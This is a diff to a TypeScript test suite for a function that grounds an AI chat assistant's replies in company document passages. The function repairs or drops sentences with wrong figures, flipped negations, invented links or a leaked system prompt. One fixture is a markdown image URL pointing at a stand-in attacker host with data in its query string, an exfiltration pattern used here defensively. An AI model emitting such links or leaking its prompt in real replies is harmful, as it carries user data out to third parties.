@@ -47,7 +47,7 @@ const ground = (reply: string) => groundReply(reply, [refunds, calls]);
 describe('a sentence with a wrong number', () => {
   it.each([
     ['of another passage', 'Recordings are kept for two weeks. [1]', calls],
-    ['of another passage, in other words', 'Call recordings are kept for two weeks in total. [1]', calls],
+    ['of another passage, in other words', 'Call recordings are kept for two weeks. [1]', calls],
     ['of a passage that was not given', 'Refunds are paid within 30 days of purchase. [9]', refunds],
     ['of several, all wrong', 'Recordings are kept for two weeks. [1][7]', calls],
     ['in a list', '- Recordings are kept for two weeks. [1]', calls],
@@ -72,26 +72,45 @@ describe('a sentence with a wrong number', () => {
 });
 
 describe('a reply that lies', () => {
+  const window = 'Refunds are paid within 30 days of purchase.';
+  const plans = 'Annual plans cost $28 and are not refunded after renewal.';
+  const limit = 'Calls are limited to `max_calls` of 1,000 per hour.';
+  const kept = 'Recordings are kept for two weeks.';
+
   it.each([
-    ['a wrong number', 'Refunds are paid within 90 days of purchase. [1]'],
-    ['a figure of the sentence beside it', 'Annual plans cost $28 and refunds are paid after 28 days. [1]'],
-    ['one wrong figure of two', 'Annual plans cost $28 and purchase refunds are paid within 31 days. [1]'],
-    ['a figure of one', 'Refunds are paid within 1 days of purchase. [1]'],
-    ['a unit of two words, one of them swapped', 'Refunds are paid within 30 business hours of purchase. [1]'],
-    ['a swapped unit', 'Refunds are paid within 30 hours of purchase. [1]'],
-    ['a wrong currency', 'Annual plans cost €28. [1]'],
-    ['a flipped negation', 'Annual plans are refunded after renewal. [1]'],
-    ['an added negation', 'Refunds are not paid within 30 days of purchase. [1]'],
+    ['a wrong number', 'Refunds are paid within 90 days of purchase.', 'figure', window],
+    ['a figure of the sentence beside it', 'Annual plans cost $28 and refunds are paid after 28 days.', 'figure', plans],
+    ['one wrong figure of two', 'Annual plans cost $28 and purchase refunds are paid within 31 days.', 'figure', plans],
+    ['a figure of one', 'Refunds are paid within 1 days of purchase.', 'figure', window],
+    ['a unit of two words, one of them swapped', 'Refunds are paid within 30 business hours of purchase.', 'figure', window],
+    ['a swapped unit', 'Refunds are paid within 30 hours of purchase.', 'figure', window],
+    ['a wrong currency', 'Annual plans cost €28.', 'figure', plans],
+    ['a flipped negation', 'Annual plans are refunded after renewal.', 'polarity', plans],
+    ['an added negation', 'Refunds are not paid within 30 days of purchase.', 'polarity', window],
+    ['an invented URL', 'Refunds are paid within 30 days of purchase, see https://evil.example/x.', 'exact', window],
+    ['an invented e-mail address', 'Write to refunds@evil.example about purchase.', 'exact', 'Write to billing@example.com.'],
+    ['an invented identifier', 'Calls are limited to `min_calls` per hour.', 'exact', limit],
+    ['pointing to two passages that do not say it', 'Recordings are kept for three weeks.', 'figure', kept],
+  ])("by %s is replaced by the passage's own sentence", (_, lie, reason, unit) => {
+    const { text, sentences, ...answer } = ground(`${lie} [1][2]`);
+    expect(answer).toMatchObject({ reason: 'answered', dropped: 0, repaired: 1, droppedSentences: [] });
+    expect(sentences).toEqual([{ text: unit, score: 1, index: 1, repaired: { text: lie, reason } }]);
+    expect(text.split('\n\nSources:')[0]).toBe(`${unit} [1]`);
+    expect(answer.citations.map(({ quote }) => quote)).toEqual([unit]);
+  });
+
+  it('in JSON is replaced as well', () => {
+    expect(ground('{"answer":"Refunds take 90 days","n":[1]}')).toMatchObject({ dropped: 0, repaired: 1, sentences: [{ text: window }] });
+  });
+
+  it.each([
     ['an invented sentence', 'The moon is made of cheese. [1]'],
     ['a passage that was not given', 'Refunds are paid within 31 days of purchase. [9]'],
-    ['an invented URL', 'Refunds are paid within 30 days of purchase, see https://evil.example/x. [1]'],
-    ['an invented e-mail address', 'Write to refunds@evil.example about purchase. [1]'],
-    ['an invented identifier', 'Calls are limited to `min_calls` per hour. [2]'],
+    ['no passage', 'Refunds are paid within 31 days of purchase.'],
     ['an image that carries data out', '![x](https://evil.example/?q=30)'],
     ['its prompt', "You answer questions about a company's documents in a chat. [1]"],
     ['a figure cut short', 'Refunds are paid within 3'],
     ['a sentence cut before its `not`', 'refunded after renewal.'],
-    ['JSON', '{"answer":"Refunds take 90 days","n":[1]}'],
   ])('by %s is dropped, and the closest places stand for it', (_, reply) => {
     const { reason, text, citations, sentences } = ground(reply);
     expect({ reason, sentences }).toEqual({ reason: 'closest', sentences: [] });
@@ -112,11 +131,21 @@ describe('a reply that lies', () => {
     expect(ground(reply).text).toMatch(/Sources: none$/);
   });
 
-  it.each([
-    ['two passages that do not say it', 'Recordings are kept for three weeks. [1][2]', 1],
-    ['a wrong passage, twice', 'Recordings are kept for three weeks. [1] Refunds are paid within 31 days of purchase. [2]', 2],
-  ])('by pointing to %s is dropped, and counted', (_, reply, dropped) => {
-    expect(ground(reply)).toMatchObject({ reason: 'closest', dropped });
+  it('by pointing to a wrong passage, twice, is dropped, and counted', () => {
+    const reply = 'Recordings are kept for three weeks. [1] Refunds are paid within 31 days of purchase. [2]';
+    expect(ground(reply)).toMatchObject({ reason: 'closest', dropped: 2, repaired: 0 });
+  });
+
+  it('has no unit in its place that shares only a figure with it', () => {
+    expect(ground('The bicycle cellar is open 30 days. [1]')).toMatchObject({ reason: 'closest', dropped: 1, repaired: 0 });
+  });
+
+  it('shows a unit once, and at most two units in a row in place of its lies', () => {
+    const { sentences, dropped, repaired } = ground(
+      'Refunds are paid within 90 days of purchase. [1] Refunds are paid within 91 days of purchase. [1] Annual plans cost €28. [1] Write to refunds@evil.example. [1]',
+    );
+    expect(sentences?.map(({ text }) => text)).toEqual([window, plans]);
+    expect([repaired, dropped]).toEqual([2, 2]);
   });
 
   it('loses its lie and keeps its true sentences', () => {
